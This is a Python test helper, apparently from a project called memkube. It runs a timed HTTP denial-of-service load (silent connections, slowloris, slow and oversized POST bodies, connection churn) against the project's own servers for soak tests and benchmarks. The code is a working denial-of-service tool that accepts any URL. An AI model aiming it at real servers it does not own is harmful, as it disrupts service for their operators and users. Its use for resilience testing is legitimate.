"""A bounded HTTP attack on memkube servers, run as its own process so its CPU is not the pool's.

``python attacks.py --duration 20 --scale 1 URL [URL ...]`` holds, against every URL at once,
until ``duration`` seconds have passed (then stops by itself and prints one JSON line of
counts):

- ``silent``: connections that never send a byte, reopened when the server closes them;
- ``slowloris``: request headers trickled one byte at a time, never finished;
- ``slow-body``: ``POST /dashboard/login`` announcing 1 MiB, then a few bytes a second;
- ``large-body``: ``POST /dashboard/login`` and ``POST /api/v1/scatter`` with 256 MiB bodies
  sent as fast as the server takes them (declared and chunked);
- ``churn``: connect and close at once, as fast as possible.

Counts: attempts per kind, how many the server closed or answered (with which status).
Used by ``tests/processes/test_soak.py`` and ``bench/attack_bench.py``.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import sys
import time
from collections import Counter
from typing import Any

MiB = 2**20


def _host_port(url: str) -> tuple[str, int]:
    host_port = url.split("://", 1)[1].split("/", 1)[0]
    host, _, port = host_port.rpartition(":")
    return host, int(port)


class Attack:
    def __init__(self, urls: list[str], duration: float, scale: float) -> None:
        self.urls = urls
        self.deadline = time.monotonic() + duration
        self.scale = scale
        self.counts: Counter[str] = Counter()

    def live(self) -> bool:
        return time.monotonic() < self.deadline

    def left(self) -> float:
        return max(0.0, self.deadline - time.monotonic())

    async def _open(self, url: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        host, port = _host_port(url)
        try:
            return await asyncio.wait_for(asyncio.open_connection(host, port), 5)
        except (OSError, TimeoutError):
            self.counts["connect-failed"] += 1
            await asyncio.sleep(0.1)
            return None

    async def _wait_closed(self, reader: asyncio.StreamReader, kind: str) -> None:
        """Read until the server closes or the attack ends; count which happened."""
        try:
            async with asyncio.timeout(self.left()):
                head = await reader.read(64)
                while head:
                    if head.startswith(b"HTTP/1."):
                        self.counts[f"{kind}-status-{head[9:12].decode()}"] += 1
                    head = await reader.read(65536)
            self.counts[f"{kind}-closed-by-server"] += 1
        except TimeoutError:
            self.counts[f"{kind}-survived"] += 1
        except ConnectionError:
            self.counts[f"{kind}-closed-by-server"] += 1

    async def silent(self, url: str) -> None:
        while self.live():
            conn = await self._open(url)
            if conn is None:
                continue
            self.counts["silent"] += 1
            await self._wait_closed(conn[0], "silent")
            conn[1].close()

    async def slowloris(self, url: str) -> None:
        request = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * 100000
        while self.live():
            conn = await self._open(url)
            if conn is None:
                continue
            reader, writer = conn
            self.counts["slowloris"] += 1
            closed = asyncio.ensure_future(self._wait_closed(reader, "slowloris"))
            with contextlib.suppress(ConnectionError):
                for byte in request:
                    if closed.done() or not self.live():
                        break
                    writer.write(bytes([byte]))
                    await writer.drain()
                    await asyncio.sleep(0.5)
            await closed
            writer.close()

    async def slow_body(self, url: str) -> None:
        head = (b"POST /dashboard/login HTTP/1.1\r\nHost: x\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\n"
                b"Content-Length: " + str(MiB).encode() + b"\r\n\r\ntoken=")
        while self.live():
            conn = await self._open(url)
            if conn is None:
                continue
            reader, writer = conn
            self.counts["slow-body"] += 1
            closed = asyncio.ensure_future(self._wait_closed(reader, "slow-body"))
            with contextlib.suppress(ConnectionError):
                writer.write(head)
                while not closed.done() and self.live():
                    writer.write(b"a" * 4)
                    await writer.drain()
                    await asyncio.sleep(1.0)
            await closed
            writer.close()

    async def large_body(self, url: str, path: str, chunked: bool) -> None:
        total = 256 * MiB
        block = b"a" * MiB
        kind = f"large-body{'-chunked' if chunked else ''}"
        while self.live():
            conn = await self._open(url)
            if conn is None:
                continue
            reader, writer = conn
            self.counts[kind] += 1
            if chunked:
                head = (f"POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
                        "Content-Type: application/x-www-form-urlencoded\r\n\r\n").encode()
                frame = f"{len(block):x}\r\n".encode() + block + b"\r\n"
            else:
                head = (f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {total}\r\n"
                        "Content-Type: application/x-www-form-urlencoded\r\n\r\n").encode()
                frame = block
            closed = asyncio.ensure_future(self._wait_closed(reader, kind))
            sent = 0
            with contextlib.suppress(ConnectionError):
                writer.write(head)
                while sent < total and not closed.done() and self.live():
                    writer.write(frame)
                    await writer.drain()
                    sent += len(block)
            self.counts[f"{kind}-MiB-sent"] += sent // MiB
            await closed
            writer.close()

    async def churn(self, url: str) -> None:
        while self.live():
            conn = await self._open(url)
            if conn is not None:
                self.counts["churn"] += 1
                conn[1].close()
            await asyncio.sleep(0.01)

    async def run(self) -> dict[str, Any]:
        jobs = []
        n = self.scale
        for i, url in enumerate(self.urls):
            share = 1.0 if i == 0 else 0.25  # the scheduler (first URL) gets the most
            jobs += [self.silent(url) for _ in range(int(600 * n * share))]
            jobs += [self.slowloris(url) for _ in range(int(100 * n * share))]
            jobs += [self.slow_body(url) for _ in range(int(40 * n * share))]
            jobs += [self.churn(url) for _ in range(max(1, int(4 * n * share)))]
            if i == 0:
                jobs += [self.large_body(url, "/dashboard/login", False) for _ in range(2)]
                jobs += [self.large_body(url, "/dashboard/login", True) for _ in range(2)]
                jobs += [self.large_body(url, "/api/v1/scatter", False)]
        await asyncio.gather(*jobs)
        return dict(self.counts)


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("urls", nargs="+")
    p.add_argument("--duration", type=float, default=20.0)
    p.add_argument("--scale", type=float, default=1.0)
    args = p.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print("attacking", flush=True)
    counts = asyncio.run(Attack(args.urls, args.duration, args.scale).run())
    print(json.dumps(counts, sort_keys=True), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
